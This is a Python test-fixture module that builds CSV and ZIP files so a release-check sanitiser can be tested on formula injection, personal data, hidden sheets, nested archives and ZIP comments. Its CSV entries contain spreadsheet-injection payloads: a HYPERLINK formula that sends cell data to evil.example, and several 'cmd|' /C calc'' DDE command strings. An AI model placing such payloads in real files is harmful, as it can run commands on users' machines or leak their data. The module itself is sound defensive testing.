"""CSV files and ZIP archives for the release gate: formulas, personal data, encodings; hidden, nested and
compressed members.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.core.release_check.corpus import CorpusFile, clean, leaky
from tests.core.release_check.corpus_xlsx import _hidden_sheet
from tests.core.release_check.corpus_xlsx_build import VISIBLE, xlsx

# ------------------------------------------------------------------ CSV


def text_file(content: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(content.encode(encoding))

    return build


CSV_HEAD = "Rank,Headcount\r\nConstable,1203\r\nSergeant,245\r\n"


def _csv_entries() -> list[CorpusFile]:
    # Formula injection is visible text, not a hidden secret: the copy keeps it, neutralised.
    return [
        leaky(
            "formula_equals.csv",
            text_file(CSV_HEAD + '=HYPERLINK("http://evil.example/?x="&A1),1\r\n'),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_plus.csv",
            text_file(CSV_HEAD + "+cmd|' /C calc'!A0,1\r\n"),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_minus.csv",
            text_file(CSV_HEAD + "-2+3+cmd|' /C calc'!A0,1\r\n"),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_at.csv",
            text_file(CSV_HEAD + "@SUM(1+1)*cmd|' /C calc'!A0,1\r\n"),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_tab.csv",
            text_file(CSV_HEAD + '"\t=1+1",1\r\n'),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_cr.csv",
            text_file(CSV_HEAD + '"\r=1+1",1\r\n'),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "personal_data.csv",
            text_file(CSV_HEAD + "Contact,JG103759A\r\n"),
            {"csv.personal_data"},
            "JG103759A",
            *VISIBLE,
        ),
        leaky(
            "ragged.csv",
            text_file(CSV_HEAD + "Inspector,61,SECRET-EXTRA\r\n"),
            {"csv.ragged_rows"},
            None,
            *VISIBLE,
            "SECRET-EXTRA",
        ),
        leaky(
            "windows_1252.csv",
            text_file(CSV_HEAD + "Cost,£1200\r\n", "cp1252"),
            {"csv.encoding"},
            None,
            *VISIBLE,
            "£1200",
        ),
        clean(
            "clean_negative_numbers.csv",
            text_file(CSV_HEAD + "Change,-12\r\nRate,+3.5\r\nShare,-0.5%\r\nBig,-1.2e3\r\n"),
            *VISIBLE,
            "-12",
        ),
        clean("clean_utf8_bom.csv", text_file("\ufeff" + CSV_HEAD + "Café,3\r\n"), *VISIBLE, "Café"),
    ]


# ------------------------------------------------------------------ ZIP


def zip_of(
    members: dict[str, Callable[[Path], None] | bytes], comment: bytes = b""
) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, source in members.items():
                if isinstance(source, bytes):
                    archive.writestr(name, source)
                else:
                    member = path.with_name(f"{path.stem}-member-{Path(name).name}")
                    source(member)
                    archive.write(member, name)
                    member.unlink()
            archive.comment = comment

    return build


def _zip_entries() -> list[CorpusFile]:
    clean_csv = text_file(CSV_HEAD)
    return [
        leaky(
            "zip_hidden_sheet.zip",
            zip_of({"answer/headcount.xlsx": xlsx(_hidden_sheet("hidden", "SECRET-ZIPPED-SHEET"))}),
            {"xlsx.hidden_sheet"},
            "SECRET-ZIPPED-SHEET",
            *VISIBLE,
        ),
        leaky(
            "zip_nested.zip",
            zip_of({"inner.zip": zip_of({"data.csv": text_file(CSV_HEAD + "Contact,JG103759A\r\n")})}),
            {"csv.personal_data"},
            "JG103759A",
            *VISIBLE,
        ),
        leaky(
            "zip_system_files.zip",
            zip_of({"data.csv": clean_csv, "__MACOSX/._data.csv": b"SECRET-RESOURCE-FORK"}),
            {"zip.system_file"},
            "SECRET-RESOURCE-FORK",
            *VISIBLE,
        ),
        leaky(
            "zip_comment.zip",
            zip_of({"data.csv": clean_csv}, comment=b"SECRET-ZIP-COMMENT"),
            {"zip.comment"},
            "SECRET-ZIP-COMMENT",
            *VISIBLE,
        ),
        clean(
            "clean_archive.zip",
            zip_of({"data.csv": clean_csv, "summary.xlsx": xlsx(lambda workbook: None)}),
            *VISIBLE,
        ),
    ]
